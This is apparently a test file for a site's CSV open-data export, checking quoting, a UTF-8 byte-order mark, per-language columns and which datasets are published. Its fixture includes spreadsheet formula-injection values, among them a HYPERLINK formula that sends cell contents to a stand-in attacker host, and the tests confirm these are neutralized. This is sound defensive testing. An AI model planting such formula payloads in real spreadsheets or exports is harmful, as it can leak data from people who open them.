import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { PublicSnapshot } from "../../views/public-snapshot.js";
import { DATASETS, datasetCsv, isDataset } from "./open-data.js";

const empty: PublicSnapshot = {
  network: null,
  countries: [],
  institutions: [],
  members: [],
  topics: [],
  events: [],
  documents: [],
  initiatives: [],
  committee: [],
  commitments: [],
};

/** A record an editor could save: every cell a spreadsheet or a naive CSV writer would mishandle. */
const hostile: PublicSnapshot = {
  ...empty,
  institutions: [
    {
      id: "hostile",
      kind: "procurement-agency",
      name: {
        es: '=HYPERLINK("http://evil.example/?"&A1,"Clic")',
        en: 'The "Agency", Inc.\nSecond line; third',
        pt: "+55 11 1234",
        fr: "@SUM(A1:A9)",
      },
      acronym: "-2+3",
      countryId: "CL",
      website: "https://example.org/a,b",
      source: "\tTab-led source\r\nwith a CRLF",
    },
  ],
};

const rows = (csv: string) => parse(csv, { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[];

describe("CSV tables", () => {
  it("quotes commas, quotes and newlines so the record reads back intact", () => {
    const [row] = rows(datasetCsv(hostile, "institutions"));
    expect(row?.name_en).toBe('The "Agency", Inc.\nSecond line; third');
    expect(row?.website).toBe("https://example.org/a,b");
  });

  it("neutralizes cells a spreadsheet would run as formulas", () => {
    const csv = datasetCsv(hostile, "institutions");
    const [row] = rows(csv);
    expect(row?.name_es).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Clic")`);
    expect(row?.name_pt).toBe("'+55 11 1234");
    expect(row?.name_fr).toBe("'@SUM(A1:A9)");
    expect(row?.acronym).toBe("'-2+3");
    expect(row?.source).toBe("'\tTab-led source\r\nwith a CRLF");
    expect(csv).not.toMatch(/(^|[,\n])"?[=+@-]/);
  });

  it("leaves ordinary text and numbers untouched", () => {
    const [row] = rows(datasetCsv(hostile, "institutions"));
    expect(row?.id).toBe("hostile");
    expect(row?.countryId).toBe("CL");
    const withTerm: PublicSnapshot = {
      ...empty,
      commitments: [
        {
          id: "chile-site",
          hostCountryId: "CL",
          scope: { es: "Sitio" },
          offeredAtEventId: "seminar",
          termMonths: 12,
          status: "offered",
          source: "test",
        },
      ],
    };
    expect(rows(datasetCsv(withTerm, "commitments"))[0]).toMatchObject({
      termMonths: "12",
      scope_en: "",
      status: "offered",
    });
  });

  it("has one column per language for every localized field, whatever the content", () => {
    const header = datasetCsv(empty, "events")
      .replace(/^\uFEFF/, "")
      .split("\r\n")[0]
      ?.split(",");
    for (const lang of ["es", "en", "pt", "fr"]) {
      expect(header).toContain(`title_${lang}`);
      expect(header).toContain(`summary_${lang}`);
      expect(header).toContain(`city_${lang}`);
    }
  });

  it("starts with a byte-order mark so spreadsheets read UTF-8 accents", () => {
    expect(datasetCsv(empty, "countries").startsWith("\uFEFFid,name_es")).toBe(true);
  });

  it("publishes only the listed collections", () => {
    expect(DATASETS.every(isDataset)).toBe(true);
    expect(isDataset("members")).toBe(false);
    expect(isDataset("memberContacts")).toBe(false);
  });
});
